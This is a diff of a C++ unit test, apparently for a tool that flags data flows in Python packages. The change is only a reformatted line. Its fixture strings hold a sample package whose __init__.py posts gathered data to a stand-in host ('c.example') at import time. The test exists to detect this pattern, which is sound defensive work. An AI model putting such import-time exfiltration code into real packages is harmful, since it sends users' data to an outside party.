@@ -51,7 +51,8 @@ TEST(PackageFlow, ImportTimeSendOfAStoreAnotherModuleReads) {
 // with a sink of its own (a process here) and handed on to the summary,
 // by the summary itself in a module without one: both ways gather.
 TEST(PackageFlow, GatheringModuleWithASinkOfItsOwn) {
-  std::string grab = std::string(kGrab) + "import subprocess\ndef ls():\n    subprocess.run(['ls'])\n";
+  std::string grab =
+      std::string(kGrab) + "import subprocess\ndef ls():\n    subprocess.run(['ls'])\n";
   EXPECT_EQ(Severity({{"grab.py", grab},
                       {"__init__.py", "import requests\nfrom .grab import stores\n"
                                       "requests.post('https://c.example/u', data=stores())\n"}}),
